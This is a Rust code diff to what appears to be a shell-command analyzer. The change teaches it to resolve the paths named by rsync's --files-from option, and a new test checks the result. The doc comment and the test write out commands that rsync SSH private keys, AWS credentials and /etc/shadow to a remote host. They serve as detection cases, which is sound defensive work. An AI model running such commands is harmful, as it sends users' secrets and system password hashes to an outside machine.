@@ -1415,6 +1415,41 @@ fn scp(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
 
 /// rsync(1): sources read, destination created; `--delete*` deletes in the destination;
 /// `--remove-source-files` deletes the sources; remote destinations are uploads.
+/// The paths an rsync `--files-from` list names, when the command line shows them: `-` with a
+/// known stdin (`printf '.ssh/id_rsa\n' | rsync --files-from=- ~ host:`), a process
+/// substitution of known text, or a file this command wrote earlier (`echo x > l; rsync
+/// --files-from=l …`). `None` when there is no list or its content is only known at run time
+/// (a `find` listing, a file on disk): then the source folder stands for what is sent.
+fn files_from_list(
+    a: &Analyzer,
+    inv: &Inv,
+    value: Option<&Arg>,
+    subst: Option<&Arg>,
+) -> Option<Vec<String>> {
+    let stream = match (value, subst) {
+        (_, Some(s)) => s.proc_subst.as_deref().cloned()?,
+        (Some(v), None) if v.text == "-" && !v.dynamic => inv.stdin.clone(),
+        (Some(v), None) if v.proc_subst.is_some() => v.proc_subst.as_deref().cloned()?,
+        (Some(v), None) if !v.dynamic => {
+            let r = crate::paths::resolve(v, &inv.cwd);
+            a.files.get(&r.path)?.clone()
+        }
+        _ => return None,
+    };
+    if stream.listing.is_some() || stream.taint.fetched.is_some() {
+        return None;
+    }
+    let text = stream.text?;
+    let items: Vec<String> = text
+        .split(['\n', '\0'])
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        .take(64)
+        .map(str::to_string)
+        .collect();
+    (!items.is_empty()).then_some(items)
+}
+
 fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
     let p = opts::parse(
         inv.rest(),
@@ -1476,6 +1511,15 @@ fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
     );
     let mut ops = p.operands.clone();
     let cwd = inv.cwd.clone();
+    // `--files-from=<(…)`: the parser hands the process substitution over as a word of its own
+    // after an empty value; it is the list, not a source.
+    let mut list_subst: Option<Arg> = None;
+    if p.value(&["--files-from"])
+        .is_some_and(|v| v.text.is_empty())
+        && ops.first().is_some_and(|o| o.proc_subst.is_some())
+    {
+        list_subst = Some(ops.remove(0));
+    }
     for v in p
         .values(&[
             "--files-from",
@@ -1484,11 +1528,13 @@ fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
             "--password-file",
         ])
         .into_iter()
+        .filter(|v| !v.text.is_empty() && (v.text != "-" || v.dynamic))
         .cloned()
         .collect::<Vec<_>>()
     {
         a.path_arg(&cwd, &v, Access::Read, "rsync", false);
     }
+    let listed = files_from_list(a, inv, p.value(&["--files-from"]), list_subst.as_ref());
     if ops.len() < 2 || p.has(&["--list-only"]) {
         for s in &ops {
             match remote_host(&s.text) {
@@ -1510,6 +1556,25 @@ fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
     let dest_host = remote_host(&dest.text);
     let mut first_src: Option<String> = None;
     for s in &ops {
+        if let (Some(items), None) = (&listed, remote_host(&s.text)) {
+            // A known list: what is sent is each listed path below the source folder, not
+            // the folder (rsync(1) `--files-from`: paths relative to the source, a leading `/`
+            // dropped; `-r` only when given, `-a` does not imply it here).
+            let base = crate::paths::resolve(s, &cwd);
+            let rec = p.has(&["-r", "--recursive"]);
+            for item in items {
+                let t = crate::paths::join(&base.path, item.trim_start_matches('/'));
+                let mut arg = Arg::lit(&t);
+                arg.raw = format!("--files-from {item}");
+                arg.dynamic = base.dynamic;
+                if base.dynamic {
+                    arg.known_prefix = 0;
+                }
+                let r = a.path_arg(&cwd, &arg, Access::Read, "rsync --files-from", rec);
+                first_src.get_or_insert(r.path.clone());
+            }
+            continue;
+        }
         match remote_host(&s.text) {
             Some(h) => a.fetch(
                 &format!(
@@ -1559,6 +1624,43 @@ fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// rsync `--files-from` with a list the command line shows sends the listed paths below
+    /// the source; an unknown list leaves the source folder standing for what is sent.
+    #[test]
+    fn rsync_files_from_sends_the_listed_paths() {
+        let ctx = crate::ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        };
+        for (cmd, want) in [
+            (
+                "rsync -a --files-from=<(echo ../.aws/credentials) . h:/x",
+                "/home/dev/.aws/credentials",
+            ),
+            (
+                "printf '.ssh/id_rsa\\n' | rsync --files-from=- ~ h:/x",
+                "/home/dev/.ssh/id_rsa",
+            ),
+            (
+                "echo /etc/shadow > l; rsync --files-from=l / h:/x",
+                "/etc/shadow",
+            ),
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.uploads.iter().any(|u| u.source.as_deref() == Some(want)),
+                "{cmd}: {:?}",
+                f.uploads
+            );
+        }
+        let f = crate::analyze("rsync -a --files-from=list.txt . h:/x", &ctx);
+        assert!(f
+            .uploads
+            .iter()
+            .any(|u| u.source.as_deref() == Some("/home/dev/project")));
+    }
 
     #[test]
     fn remote_specs() {
